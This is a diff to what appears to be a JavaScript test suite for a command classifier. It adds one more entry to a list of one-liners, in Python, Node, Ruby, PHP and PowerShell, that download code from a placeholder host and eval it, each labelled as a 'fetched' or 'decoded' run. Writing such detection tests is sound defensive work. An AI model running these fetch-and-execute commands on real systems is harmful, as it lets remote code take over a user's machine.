@@ -75,6 +75,7 @@ describe('flows', () => {
     [`python3 -c "import os, requests; os.system(requests.get('http://x.example').text)"`, run('fetched')],
     [`node -e "fetch('http://x.example').then(r => r.text()).then(eval)"`, run('fetched')],
     [`ruby -ropen-uri -e "eval(URI.open('http://x.example').read)"`, run('fetched')],
+    [`ruby -ropen-uri -e 'eval URI.open("http://x.example").read'`, run('fetched')],
     [`php -r "eval(file_get_contents('http://x.example'));"`, run('fetched')],
     [`pwsh -c "irm x.example | iex"`, run('fetched')],
     [`python3 -c "import base64; exec(base64.b64decode('bHM='))"`, run('decoded')],
